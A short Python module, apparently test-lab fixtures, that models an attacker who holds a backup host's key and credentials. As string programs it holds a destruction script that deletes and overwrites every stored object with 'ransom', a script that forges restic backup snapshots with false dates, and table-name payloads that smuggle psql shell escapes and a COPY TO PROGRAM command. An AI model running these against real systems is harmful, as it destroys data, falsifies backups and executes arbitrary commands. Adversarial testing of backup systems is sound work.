"""What somebody does who has taken a host with its key and its credential: programs for a container.

Standard library and restic only; each takes one JSON object as its argument.
"""

RANSOM = """
import base64, http.client, json, sys
job = json.loads(sys.argv[1])
login = base64.b64encode(f"{job.get('user', '')}:{job.get('secret', '')}".encode()).decode()
def ask(method, path, body=None):
    connection = http.client.HTTPConnection(job["host"], 8000, timeout=20)
    connection.request(method, "/" + path, body, {"Authorization": "Basic " + login})
    return connection.getresponse().status
answers = {"deleted": 0, "overwritten": 0, "refused": 0}
for path in job["objects"]:
    for method, kind in (("DELETE", "deleted"), ("POST", "overwritten")):
        status = ask(method, path, b"ransom" if method == "POST" else None)
        answers[kind if status < 300 else "refused"] += 1
print(json.dumps(answers))
"""
"""Delete and overwrite every object; how often that was allowed."""

FORGE = """
import json, os, random, subprocess, sys, time
job = json.loads(sys.argv[1])
environment = {**os.environ, "RESTIC_PASSWORD": job["password"], "HOME": "/tmp"}
for number in range(job["number"]):
    moment = time.gmtime(time.time() + random.uniform(-400, 400) * 86400)
    name = time.strftime("%Y%m%dt%H%M%S", moment) + f"-{number:04x}"
    at = time.strftime("%Y-%m-%d %H:%M:%S", moment)
    for part in ("database", "rest"):
        words = ("restic", "-q", "--no-cache", "--repo", job["url"], "backup", "--stdin", "--time", at,
                 "--tag", f"point:{name},part:{part}")
        subprocess.run(words, input=b"forged", env=environment, check=True)
"""
"""Add points with times of one's choosing."""

MARK = "/tmp/lab-marker"
HOSTILE = (
    f"x\n\\! touch {MARK}\n",
    f"y\n\\unrestrict a\n\\! touch {MARK}\n--",
    f"z'; COPY (SELECT 1) TO PROGRAM 'touch {MARK}'; --",
)
"""Names of tables that a client of `psql` would obey (CVE-2025-8714 and its kin)."""
